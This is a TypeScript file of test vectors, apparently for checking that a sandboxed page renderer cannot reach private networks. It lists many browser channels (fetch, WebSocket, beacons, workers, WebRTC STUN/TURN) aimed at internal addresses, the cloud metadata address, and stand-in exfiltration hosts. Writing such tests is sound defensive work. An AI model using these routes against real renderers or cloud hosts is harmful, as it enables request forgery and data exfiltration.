import { privately as at, named, redirecting, type Vector, type Vectors } from "./vector.ts";

const script = (code: string): Vector => ({ html: `<body><script>${code}</script>` });

const peer = (server: string): Vector => ({
  ...script(`
    const peer = new RTCPeerConnection({ iceServers: [${server}] });
    peer.createDataChannel("x");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));`),
  linger: 1000,
});

/** A script of the page asks for something private. */
export const scripts: Vectors = named("script", {
  fetch: script(`fetch("${at("fetch")}").catch(() => {})`),
  "fetch no-cors": script(`fetch("${at("fetch-no-cors")}", { mode: "no-cors" })`),
  "fetch by TLS": script(`fetch("${at("fetch-tls", "https")}", { mode: "no-cors" })`),
  fetchLater: script(`fetchLater("${at("fetch-later")}", { activateAfter: 0 })`),
  "fetch keepalive": script(`
    addEventListener("pagehide", () => fetch("${at("keepalive")}", { mode: "no-cors", keepalive: true }));
    setTimeout(() => { location = "about:blank" }, 100)`),
  XMLHttpRequest: script(`const x = new XMLHttpRequest(); x.open("GET", "${at("xhr")}"); x.send()`),
  WebSocket: script(`new WebSocket("${at("websocket", "ws")}")`),
  "WebSocket by TLS": script(`new WebSocket("${at("websocket-tls", "wss")}")`),
  "WebSocket redirected": script(`new WebSocket("${redirecting(at("websocket-redirected", "ws"), 302, "ws")}")`),
  WebSocketStream: script(`new WebSocketStream("${at("websocket-stream", "ws")}")`),
  WebTransport: { ...script(`new WebTransport("https://10.0.0.5:443/webtransport")`), secure: true, linger: 800 },
  EventSource: script(`new EventSource("${at("event-source")}")`),
  beacon: script(`navigator.sendBeacon("${at("beacon")}", "x")`),
  ping: script(`
    const link = document.createElement("a"); link.href = "#x"; link.ping = "${at("ping")}";
    document.body.append(link); link.click()`),
  worker: script(`new Worker("/worker.js")`),
  "blob worker": script(`
    new Worker(URL.createObjectURL(new Blob(['fetch("${at("blob-worker")}", { mode: "no-cors" })'])))`),
  "shared worker": script(`new SharedWorker("/shared-worker.js")`),
  "service worker": {
    ...script(`navigator.serviceWorker?.register("/service-worker.js")`),
    secure: true,
    linger: 1000,
  },
  import: script(`import("${at("import.js")}")`),
  "document.write": script(`document.write('<img src="${at("written")}">')`),
  STUN: peer(`{ urls: ["stun:10.0.0.5:3478", "stun:127.0.0.1:3478", "stun:169.254.169.254:3478"] }`),
  "STUN to a public server": peer(`{ urls: ["stun:93.184.216.34:3478"] }`),
  "STUN by name": peer(`{ urls: ["stun:stun.exfiltration.test:3478"] }`),
  "TURN by TCP": peer(`{ urls: "turn:10.0.0.5:3478?transport=tcp", username: "a", credential: "b" }`),
  "name as message": script(`fetch("http://message.exfiltration.test/", { mode: "no-cors" })`),
});
